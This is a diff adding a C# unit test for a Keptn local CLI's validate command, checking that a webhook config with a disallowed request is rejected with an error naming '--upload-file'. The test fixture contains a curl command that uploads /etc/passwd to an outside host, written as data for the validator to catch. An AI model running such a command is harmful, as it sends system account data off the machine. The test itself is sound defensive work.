@@ -180,6 +180,29 @@ public sealed partial class KeptnLocalCommandTests : IDisposable
     }
 
     [Fact]
+    public async Task Validate_WebhookThatWouldNotRun_SaysWhy()
+    {
+        Write("dev/carts/webhook/webhook.yaml", """
+            apiVersion: webhookconfig.keptn.sh/v1alpha1
+            kind: WebhookConfig
+            metadata:
+              name: chat
+            spec:
+              webhooks:
+                - type: sh.keptn.event.deployment.triggered
+                  subscriptionID: one
+                  requests:
+                    - curl --upload-file /etc/passwd https://chat.example.com/{{.data.service}}
+            """);
+
+        var run = await KeptnLocalAsync("validate", _folder);
+
+        run.ExitCode.Should().Be(1);
+        run.Output.Should().ContainSingle(line => line.Contains("webhook.yaml:", StringComparison.Ordinal) && line.Contains("error", StringComparison.Ordinal))
+            .Which.Should().Contain("--upload-file");
+    }
+
+    [Fact]
     public async Task Validate_BadFiles_NamesFileLineFieldAndReason()
     {
         Write("dev/carts/slo.yaml", "spec_version: '1.0'\nobjectives:\n  - sli: rt\n    pass: nothing\ntotal_score:\n  pass: 90%\n");
